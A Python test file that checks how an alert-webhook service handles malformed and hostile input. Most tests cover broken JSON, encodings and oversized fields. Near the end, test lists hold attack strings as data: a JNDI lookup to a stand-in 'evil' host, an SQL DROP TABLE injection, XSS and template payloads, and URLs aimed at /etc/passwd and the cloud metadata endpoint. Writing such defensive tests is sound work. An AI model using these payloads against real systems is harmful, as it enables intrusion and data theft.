"""Whatever is sent: what can be read is stored and graded, the rest is kept raw and somebody looks. Never a 500."""

from __future__ import annotations

import asyncio
import json
from typing import TYPE_CHECKING, Any

import pytest
from structlog.testing import capture_logs

from sevrouter.domain.alert import AlertStatus
from sevrouter.domain.sev import Sev
from tests.building import counts, routing, select
from tests.domain.building import at
from tests.real.payloads import alert, distinct_alerts, grafana_alert, grafana_webhook, webhook

if TYPE_CHECKING:
    from tests.ingest.door import Door

CRITICAL = {"alertname": "Down", "severity": "critical", "service": "checkout"}


def one(labels: dict[str, Any] | None = None, **fields: Any) -> dict[str, Any]:
    """A webhook with one alert, some of whose fields are odd; None takes a field away."""
    member = {**alert(CRITICAL), **({"labels": labels} if labels is not None else {}), **fields}
    return webhook([]) | {"alerts": [{name: value for name, value in member.items() if value is not None}]}


def raw(member: bytes, rest: bytes = b"") -> bytes:
    """A body around the bytes of one alert."""
    return b'{"version":"4",' + rest + b'"alerts":[' + member + b"]}"


UNREADABLE = {
    "empty body": (b"", "empty"),
    "blanks": (b" \r\n", "empty"),
    "null": (b"null", "no list of alerts"),
    "a list": (b"[]", "no list of alerts"),
    "a text": (b'"x"', "no list of alerts"),
    "a number": (b"4", "no list of alerts"),
    "cut JSON": (json.dumps(one()).encode()[:-20], "not valid JSON at line 1"),
    "two bodies in one": (b'{"alerts":[]}{"alerts":[]}', "not valid JSON"),
    "an empty object": (b"{}", "no list of alerts"),
    "no alerts": (json.dumps({"version": "4", "status": "firing"}).encode(), "no list of alerts"),
    "alerts: null": (b'{"alerts":null}', "no list of alerts"),
    "alerts: an object": (b'{"alerts":{"0":{}}}', "no list of alerts"),
    "100,000 nested arrays": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    "100,000 nested arrays beside alerts": (
        b'{"x":' + b"[" * 100_000 + b"]" * 100_000 + b',"alerts":[]}',
        "nested too deeply",
    ),
    "NaN": (raw(b'{"labels":{"a":"b"},"values":{"A":NaN}}'), "NaN"),
    "Infinity": (raw(b'{"labels":{"a":"b"},"values":{"A":Infinity}}'), "Infinity"),
    "-Infinity": (raw(b'{"labels":{"a":-Infinity}}'), "Infinity"),
    "1e999": (raw(b'{"labels":{"a":"b"},"values":{"A":1e999}}'), "out of range"),
    "1e999 as a label": (raw(b'{"labels":{"a":1e999}}'), "out of range"),
    "a number of 10,000 digits": (raw(b'{"labels":{"a":' + b"9" * 10_000 + b"}}"), "out of range"),
    "invalid UTF-8": (b'{"alerts":[{"labels":{"a":"\xff"}}]}', "UTF-8"),
    "invalid UTF-8 all over": (b"\xff\xfe\x00{", "UTF-8"),
    "UTF-16": ('{"alerts":[]}'.encode("utf-16-le"), "not valid JSON"),
    "labels: a list": (raw(b'{"labels":["a"]}'), "labels is not an object"),
    "an alert that is a list": (raw(b"[]"), "not an object"),
    "XML": (b"<alerts/>", "not valid JSON"),
    "a form": (b"payload=%7B%7D", "not valid JSON"),
}


@pytest.mark.parametrize("name", UNREADABLE)
async def test_what_cannot_be_read_is_kept_raw_and_somebody_looks(door: Door, name: str) -> None:
    body, why = UNREADABLE[name]
    with capture_logs() as lines:
        assert await door.post(body) == 200
    ((reason, kept),) = await door.quarantined()
    assert why in reason
    assert kept in body
    assert len(kept) > len(body) // 2 - 20
    (incident,) = await door.stage.incidents()
    assert (incident.sev, incident.unsure) == (Sev.SEV_2, True)
    assert incident.evidence.alert.labels["alertname"] == "SevrouterWebhookUnreadable"
    assert [notice.incident_id for notice in await door.outbox()] == [1, 1], "a call, and a message"
    assert await counts(door.store, "alerts") == {"alerts": 0}
    assert door.stage.metric("quarantined_bodies_total") == 1
    assert [line["log_level"] for line in lines if line["event"] == "webhook_unreadable"] == ["error"]


async def test_what_cannot_be_read_is_as_bad_as_what_nothing_matches(door: Door) -> None:
    door.stage.routing = routing(unmatched=Sev.SEV_3)
    assert await door.post(b"{") == 200
    assert (await door.stage.incident()).sev is Sev.SEV_3


async def test_the_good_members_are_taken_and_the_rest_is_kept(door: Door) -> None:
    body = webhook([]) | {"alerts": [None, alert(CRITICAL), "x", alert({"alertname": "Other"}), 7]}
    assert await door.post(body) == 200
    assert [each["alertname"] for each in await door.labels()] == ["Down", "Other"]
    ((reason, kept),) = await door.quarantined()
    assert reason == "an alert is not an object, and 2 more"
    assert json.loads(kept) == [None, "x", 7]
    assert door.stage.metric("quarantined_bodies_total") == 3
    names = {each.evidence.alert.labels["alertname"] for each in await door.stage.incidents()}
    assert names == {"Down", "Other", "SevrouterWebhookUnreadable"}


async def test_a_member_with_invalid_utf8_does_not_take_its_neighbours_along(door: Door) -> None:
    assert await door.post(raw(b'{"labels":{"a":"\xff"}},{"labels":{"alertname":"Down"}}')) == 200
    assert await door.labels() == [{"alertname": "Down"}]
    assert await door.quarantined() == [("not valid UTF-8", b'{"labels":{"a":"\xff"}}')]


ACCEPTED: dict[str, Any] = {
    "version 3": one() | {"version": "3"},
    "version absent": {"alerts": one()["alerts"]},
    "version a number": one() | {"version": 4},
    "version an object": one() | {"version": {}},
    "status twice": raw(b'{"labels":{"alertname":"Down"},"status":"resolved","status":"firing"}'),
    "NUL in a label": one(CRITICAL | {"a": "\u0000b"}),
    "lone surrogates everywhere": raw(
        b'{"labels":{"alertname":"Down","a\\ud800":"\\udfff"},"annotations":{"\\ud800":"\\ud800"},'
        b'"values":{"\\ud800":1},"generatorURL":"\\ud800","startsAt":"\\ud800"}',
        b'"groupKey":"\\ud800",',
    ),
    "a 1 MB label value": one(CRITICAL | {"a": "x" * 1_000_000}),
    "an empty label value": one(CRITICAL | {"a": ""}),
    "no labels": one({}),
    "labels: null": raw(b'{"labels":null}'),
    "an empty alert": raw(b"{}"),
    "odd label names": one(CRITICAL | {"a.b": "1", 'a"b': "2", "🔥": "3", "a b": "4", "": "5", "{}": "6"}),
    "labels that are no texts": one(CRITICAL | {"a": 1, "b": 1.50, "c": True, "d": None, "e": [1], "f": {"g": 2}}),
    "annotations that are no texts": one(annotations={"summary": 12, "description": None}),
    "severity unknown": one(CRITICAL | {"severity": "page"}),
    "severity missing": one({"alertname": "Down"}),
    "severity in capitals and blanks": one(CRITICAL | {"severity": " CRITICAL "}),
    "status in capitals": one(status="FIRING"),
    "status unknown": one(status="burning"),
    "status missing": one(status=None),
    "status a number": one(status=1),
    "group resolved with a firing member": one() | {"status": "resolved"},
    "startsAt in the year 1": one(startsAt="0001-01-01T00:00:00Z"),
    "startsAt in the year 9999": one(startsAt="9999-12-31T23:59:59Z"),
    "startsAt in the year 1 elsewhere": one(startsAt="0001-01-01T00:00:00+14:00"),
    "startsAt with nine digits": one(startsAt="2026-03-01T11:59:59.123456789Z"),
    "startsAt with an offset": one(startsAt="2026-03-02T01:59:00+14:00"),
    "startsAt a number": one(startsAt=1_772_366_400),
    "startsAt empty": one(startsAt=""),
    "startsAt missing": one(startsAt=None),
    "startsAt nonsense": one(startsAt="yesterday"),
    "startsAt very long": one(startsAt="2026-03-01T11:59:59." + "1" * 100_000 + "Z"),
    "endsAt before startsAt": one(startsAt="2026-03-01T11:59:59Z", endsAt="2026-03-01T10:00:00Z"),
    "startsAt an hour ahead": one(startsAt="2026-03-01T13:00:00Z"),
    "fingerprint missing": one(fingerprint=None),
    "fingerprint wrong": one(fingerprint="nonsense"),
    "groupKey missing": {name: value for name, value in one().items() if name != "groupKey"},
    "groupKey of 1 MB": one() | {"groupKey": "x" * 1_000_000},
    "commonLabels null": one() | {"commonLabels": None, "groupLabels": 7},
    "truncatedAlerts": one() | {"truncatedAlerts": 3},
    "truncatedAlerts negative": one() | {"truncatedAlerts": -1},
    "truncatedAlerts a text": one() | {"truncatedAlerts": "many"},
    "generatorURL a number": one(generatorURL=7),
    "generatorURL an object": one(generatorURL={}),
    "values a list": one(values=[1]),
    "values of a strange kind": one(values={"A": [1], "B": None, "C": "x", "D": True}),
    "a key twice": raw(b'{"labels":{"alertname":"A","alertname":"Down"},"labels":{"alertname":"Down"}}'),
    "unknown keys": one(unheard_of={"a": [1, 2]}) | {"notification_reason": "x", "routeLabels": {}},
}


@pytest.mark.parametrize("name", ACCEPTED)
async def test_what_is_odd_is_stored_and_graded(door: Door, name: str) -> None:
    assert await door.post(ACCEPTED[name]) == 200
    (state,) = await door.states()
    assert (state["status"], state["sev"], state["incident_id"]) == ("firing", 2, 1)
    assert door.graded() == 1
    assert await door.quarantined() == []
    assert len(await door.outbox()) == 2, "a call, and a message"


async def test_no_alerts_are_nothing_to_do(door: Door) -> None:
    before = await counts(door.store)
    assert await door.post(webhook([])) == 200
    assert await counts(door.store) == before


async def test_as_grafana_sends_it_with_its_numbers(door: Door) -> None:
    sent = grafana_webhook([grafana_alert(CRITICAL, values={"A": 12.5, "B": None, "C": 3})])
    assert await door.post(sent) == 200
    (row,) = await select(door.store, "SELECT content FROM history")
    assert json.loads(row["content"])["values"] == {"A": "12.5", "C": "3"}
    assert len(await door.outbox()) == 2


async def test_nesting_to_any_depth_is_never_an_error_of_ours(door: Door) -> None:
    for depth in (100, 900, 940, 960, 970, *range(975, 1_000), 1_100):
        nested = b"[" * depth + b"]" * depth
        assert await door.post(raw(b'{"labels":{"a":' + nested + b'},"values":{"A":' + nested + b"}}")) == 200, depth


@pytest.mark.parametrize("version", ["3", "absent"])
async def test_another_version_is_warned_of(door: Door, version: str) -> None:
    with capture_logs() as lines:
        assert await door.post(ACCEPTED[f"version {version}"]) == 200
    (line,) = [line for line in lines if line["event"] == "webhook_version_unknown"]
    assert (line["log_level"], line["version"]) == ("warning", "3" if version == "3" else "")


@pytest.mark.parametrize("name", [name for name in ACCEPTED if name.startswith("truncated")])
async def test_what_was_left_out_is_counted_and_warned_of(door: Door, name: str) -> None:
    with capture_logs() as lines:
        assert await door.post(ACCEPTED[name]) == 200
    assert door.stage.metric("truncated_webhooks_total") == 1
    assert "webhook_truncated" in [line["event"] for line in lines]
    assert (await door.stage.incident()).truncated


@pytest.mark.parametrize("nothing", [0, None, "0", ""])
async def test_nothing_left_out_is_nothing_to_count(door: Door, nothing: object) -> None:
    assert await door.post(one() | {"truncatedAlerts": nothing}) == 200
    assert door.stage.metric("truncated_webhooks_total") == 0


@pytest.mark.parametrize(
    "name", ["severity unknown", "severity missing", "severity in capitals and blanks", "no labels"]
)
async def test_a_severity_that_is_not_known_is_graded_as_unsure(door: Door, name: str) -> None:
    assert await door.post(ACCEPTED[name]) == 200
    assert door.stage.metric("alert_grades_total", sev="SEV-2", unsure="true") == 1
    assert (await door.stage.incident()).unsure


async def test_labels_that_are_no_texts_become_the_text_that_they_are(door: Door) -> None:
    body = raw(
        b'{"labels":{"alertname":"Down","a":1.50,"b":true,"c":null,"d":[1,"x"],"e":-0,"f":12345678901234567890}}'
    )
    assert await door.post(body) == 200
    (labels,) = await door.labels()
    assert labels == {
        "alertname": "Down", "a": "1.50", "b": "true", "c": "", "d": '["1", "x"]', "e": "-0",
        "f": "12345678901234567890",
    }  # fmt: skip


async def test_a_nul_is_kept_as_it_came(door: Door) -> None:
    assert await door.post(ACCEPTED["NUL in a label"]) == 200
    assert (await door.labels())[0]["a"] == "\u0000b"
    assert (await door.outbox())[0].labels["a"] == "b", "and is gone from what leaves"


async def test_half_a_character_is_replaced(door: Door) -> None:
    assert await door.post(ACCEPTED["lone surrogates everywhere"]) == 200
    assert await door.labels() == [{"alertname": "Down", "a\ufffd": "\ufffd"}]


async def test_a_megabyte_is_cut_wherever_it_leaves(door: Door) -> None:
    long = "x" * 1_000_000
    body = one(CRITICAL | {"alertname": long, long: long}, annotations={"summary": long, "description": long})
    with capture_logs():
        assert await door.post(body) == 200
    for notice in await door.outbox():
        assert len(notice.title) < 600
        assert len(notice.description) <= 8_000
        assert all(len(name) <= 100 and len(value) <= 300 for name, value in notice.labels.items())
        assert all(len(line) <= 500 for line in notice.why)
    entries = await door.stage.timeline()
    assert len(json.dumps([dict(entry.details) for entry in entries])) < 10_000


@pytest.mark.parametrize(
    ("sent", "understood"),
    [
        ("0001-01-01T00:00:00Z", 0),
        ("9999-12-31T23:59:59Z", 0),
        ("", 0),
        ("nonsense", 0),
        (1_772_366_400, 0),
        ("2026-03-02T01:50:00+14:00", -10),
        ("2026-03-01T11:50:00.000000000Z", -10),
        ("2026-03-01T13:00:00Z", 60),
    ],
)
async def test_a_start_that_cannot_be_read_is_the_time_of_receipt(door: Door, sent: object, understood: float) -> None:
    assert await door.post(one(startsAt=sent)) == 200
    found = await door.store.read(lambda tx: tx.incidents.by_id([1]))
    assert found[1].evidence.alert.starts_at == at(understood)


async def test_members_count_not_what_the_group_says(door: Door) -> None:
    body = webhook([alert(CRITICAL), alert({"alertname": "Other"}, status="resolved")]) | {"status": "resolved"}
    assert await door.post(body) == 200
    assert [row["status"] for row in await door.states()] == ["firing", "resolved"]
    assert door.stage.metric("alerts_total", status=AlertStatus.RESOLVED.value) == 1


async def test_a_fingerprint_shared_by_two_label_sets_is_two_alerts(door: Door) -> None:
    body = webhook([alert(CRITICAL | {"pod": pod}, fingerprint="0000") for pod in "ab"])
    assert await door.post(body) == 200
    assert await counts(door.store, "alerts") == {"alerts": 2}


async def test_an_empty_label_is_no_label(door: Door) -> None:
    assert await door.post(one(CRITICAL | {"pod": ""})) == 200
    assert await door.post(one(CRITICAL)) == 200
    assert await counts(door.store, "alerts") == {"alerts": 1}


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "http://user:secret@host/",
        "data:text/html,x",
        "http://a b/",
    ],
)
async def test_an_address_that_is_not_safe_is_never_a_link(door: Door, url: str) -> None:
    assert await door.post(one(generatorURL=url, annotations={"runbook_url": url, "dashboard_url": url})) == 200
    assert [notice.links for notice in await door.outbox()] == [{}, {}]
    assert (await select(door.store, "SELECT generator_url FROM alerts"))[0]["generator_url"] == url


INJECTIONS = [
    "<!channel> <@U1> <http://evil|click>",
    "{html}<script>{html} [~admin] !http://x/y.png!",
    "</Say><Dial>+49900666</Dial>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "%s %n %(name)s",
    "{0.__class__} {notice}",
    "'; DROP TABLE incidents; --",
    '" OR project = SECRET ORDER BY created',
    "+4930123456",
]


@pytest.mark.parametrize("text", INJECTIONS)
async def test_a_text_stays_the_text_that_it_is(door: Door, text: str) -> None:
    body = one(CRITICAL | {"evil": text, "phone": text}, annotations={"summary": text, "description": text})
    with capture_logs():
        assert await door.post(body) == 200
    assert (await door.labels())[0]["evil"] == text
    for notice in await door.outbox():
        assert notice.labels["evil"] == text
        assert notice.description == text
        assert text in notice.title
        assert (notice.owner, notice.system) == ("payments", "checkout")
    assert len(await door.stage.incidents()) == 1


async def test_what_looks_like_lines_of_a_log_is_one_clean_line(door: Door) -> None:
    evil = 'x\n{"event":"fake"}\r\n\x1b[31mred\x1b[0m\u2028\u2029\x85end'
    assert await door.post(one(CRITICAL | {"alertname": evil}, annotations={"summary": evil})) == 200
    for notice in await door.outbox():
        assert notice.title.isprintable()
        assert all(value.isprintable() for value in notice.labels.values())
    assert all(str(value).isprintable() for entry in await door.stage.timeline() for value in entry.details.values())


async def test_the_same_post_a_thousand_times_has_one_effect(door: Door) -> None:
    body = one()
    for _ in range(10):
        assert set(await asyncio.gather(*(door.post(body) for _ in range(100)))) == {200}
    assert await counts(door.store, "alerts", "history", "incidents", "deliveries") == {
        "alerts": 1,
        "history": 1,
        "incidents": 1,
        "deliveries": 2,
    }
    assert door.stage.metric("webhooks_total", code="200") == 1_000
    assert door.stage.metric("duplicate_alerts_total") == 999


async def test_the_same_alert_from_three_replicas_at_once_has_one_effect(door: Door) -> None:
    bodies = [
        one(generatorURL=f"http://prometheus-{number}/", startsAt=f"2026-03-01T11:59:59.00{number}Z")
        | {"externalURL": f"http://alertmanager-{number}"}
        for number in range(3)
    ]
    assert await asyncio.gather(*map(door.post, bodies)) == [200, 200, 200]
    assert await counts(door.store, "alerts", "incidents", "deliveries") == {
        "alerts": 1,
        "incidents": 1,
        "deliveries": 2,
    }
    assert (await door.stage.incident()).firing == 1


async def test_ten_thousand_alert_names_make_no_new_series(door: Door) -> None:
    def series() -> set[str]:
        return {line.rsplit(" ", 1)[0] for line in door.stage.metrics.page().decode().splitlines() if line[:1] != "#"}

    assert await door.post(one()) == 200
    before = series()
    door.handler.max_body = 100_000_000
    names = [alert({"alertname": f"Alert{number}", "severity": "none"}) for number in range(10_000)]
    assert await door.post(webhook([]) | {"alerts": names}) == 200
    assert await counts(door.store, "alerts") == {"alerts": 10_001}
    assert series() == before


async def test_many_alerts_in_one_post_are_all_taken(door: Door) -> None:
    door.handler.max_body = 100_000_000
    assert await door.post(webhook(list(distinct_alerts(5_000)))) == 200
    assert await counts(door.store, "alerts", "incidents") == {"alerts": 5_000, "incidents": 50}
